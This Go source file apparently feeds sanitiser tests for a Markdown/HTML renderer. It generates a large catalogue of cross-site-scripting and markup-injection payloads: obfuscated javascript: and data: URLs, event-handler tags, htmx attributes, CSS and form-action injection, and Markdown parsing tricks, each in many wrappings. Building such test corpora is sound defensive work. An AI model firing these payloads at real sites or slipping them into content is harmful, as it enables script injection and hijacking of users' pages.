// Package payloads has the texts that somebody might write to attack who reads them.
// Tests put them wherever people can write.
package payloads

import "fmt"

// List returns attempts to run, load, send or restyle something from within a text:
// every vector in every wrapping.
func List() (list []string) {
	for _, target := range schemes() {
		for _, form := range []string{
			"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "%s", `<a href="%s">x</a>`, "<iframe src=%s>", "[x]\n\n[x]: %s", `[x](%s "t")`, "[![x](%[1]s)](%[1]s)", "> - [x](%s)",
		} {
			list = append(list, fmt.Sprintf(form, target))
		}
	}
	for _, tag := range tags() {
		for _, form := range []string{"%s", "a %s b", "> %s", "- %s", "**%s**", "[%s](https://example.com)", "[x](https://example.com '%s')", "`x` %s", "\\%s", "</p></div>%s", "<!-- -->%s", "```%s\nx\n```"} {
			list = append(list, fmt.Sprintf(form, tag))
		}
	}
	return append(list, Tricks()...)
}

func schemes() []string {
	return []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
		"&#x6A;&#x61;vascript:alert(1)", "java\tscript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "\x01javascript:alert(1)",
		"&#1;javascript:alert(1)", " javascript:alert(1)", "javascript://example.com/%0aalert(1)", "javascript\\:alert(1)", "jav&#x0A;ascript:alert(1)",
		"vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
		"data:image/png;base64,iVBORw0KGgo=", "file:///etc/passwd", "blob:https://example.com/1", "filesystem:https://example.com/t", "view-source:https://example.com",
		"about:blank", "tel:123", "ftp://example.com", "ws://example.com", "intent://x#Intent;end", "//example.com", "/conversations/1/delete", "?page=2", "#composer", "",
		"https:alert(1)", "http:\\\\example.com", "https://example.com/\" onclick=\"alert(1)", "https://example.com/'onmouseover='alert(1)", "https://example.com/><script>alert(1)</script>",
		"https://example.com/%22%3E%3Cscript%3E", "mailto:a@example.com?subject=\"><script>alert(1)</script>", "feed:javascript:alert(1)", "javascript%3Aalert(1)", "ｊavascript:alert(1)", "javascript：alert(1)",
	}
}

func tags() []string {
	return []string{
		"<script>alert(1)</script>", "<SCRIPT SRC=//example.com/x.js></SCRIPT>", "<script\x20type=\"text/javascript\">alert(1);</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
		"<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\"/>", "<IMG SRC=j&#X41vascript:alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=https://example.com/pixel.gif>", "<img srcset=x>",
		"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
		"<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>", "<embed src=x>",
		"<form action=https://example.com><button>Send</button></form>", "<button form=composer formaction=https://example.com>x</button>", "<input autofocus onfocus=alert(1)>", "<textarea></textarea><script>alert(1)</script>", "<select onfocus=alert(1)></select>",
		"<style>*{display:none}</style>", "<style>@import'https://example.com/x.css';</style>", "<link rel=stylesheet href=https://example.com/x.css>", "<p style=position:fixed>x</p>", "<p class=toast id=main>x</p>", "<base href=https://example.com>", "<meta http-equiv=refresh content='0;url=https://example.com'>",
		"<div hx-get=/conversations hx-trigger=load>x</div>", "<div data-hx-get=/ data-quick>x</div>", "<a hx-boost=true href=https://example.com>x</a>", "<div hx-on:click=alert(1)>x</div>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<table background=javascript:alert(1)><tr><td>x</table>", "<isindex action=javascript:alert(1)>", "<x onclick=alert(1)>x</x>",
		"<custom-element is=x>", "<slot name=x>", "<dialog open>x</dialog>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>", "<!DOCTYPE html><script>", "<a href='https://example.com' target=_blank ping=https://example.com>x</a>",
		"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<p onclick=alert(1) dir=rtl>x</p>", "</ol></div></main><script>alert(1)</script>",
	}
}

// Tricks returns those of Markdown itself.
func Tricks() []string {
	return []string{
		"[x](https://example.com \"\" onclick=alert(1) \"\")", "[x](https://example.com){onclick=alert(1) .toast #main}", "# x {#main .toast onclick=alert(1)}", "[x](https://example.com 'a\" onclick=\"alert(1)')",
		"[a](https://example.com\"onclick=\"alert(1))", "![x\"onerror=\"alert(1)](https://example.com/x.png)", "![](https://example.com/x.png)", "[](javascript:alert(1))", "[x](javascript:alert\\(1\\))", "[x]( javascript:alert(1) )", "[x](\njavascript:alert(1)\n)",
		"[x][y]\n\n[y]: javascript:alert(1)", "[y]: <javascript:alert(1)> \"t\"\n\n[y]", "<https://example.com/\"onclick=\"alert(1)>", "<javascript:alert(1)>", "<a@b.example\"onclick=alert(1)>", "``` \" onclick=\"alert(1)\nx\n```", "~~~<script>\nalert(1)\n~~~", "    <script>alert(1)</script>",
		"`<script>alert(1)</script>`", "``` `\n<img src=x onerror=alert(1)>", "| a | b |\n|---|---|\n| <script> | x |", "- [ ] <input onfocus=alert(1) autofocus>", "[^1]\n\n[^1]: <script>alert(1)</script>", "1000000000000. x", "999999999. x", "*<script>*alert(1)*</script>*", "_[x_](javascript:alert(1))_",
		"[a <img src=x onerror=alert(1)>](https://example.com)", "[[x](https://example.com)](javascript:alert(1))", "![[x](javascript:alert(1))](https://example.com)", "www.example.com\"onclick=\"alert(1)", "https://example.com/<script>alert(1)</script>", "https://example.com/`x`\"onclick=1", "a@example.com\"onclick=alert(1)",
		"\ufeff<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "<scrip\nt>alert(1)</script>", "<a\nhref\n=\njavascript:alert(1)>x</a>", "\\<script>alert(1)\\</script>", "\\[x](javascript:alert(1))", "[x\\](javascript:alert(1))", "&lbrack;x&rbrack;(javascript:alert(1))", "\xff\xfe<script>alert(1)</script>",
	}
}
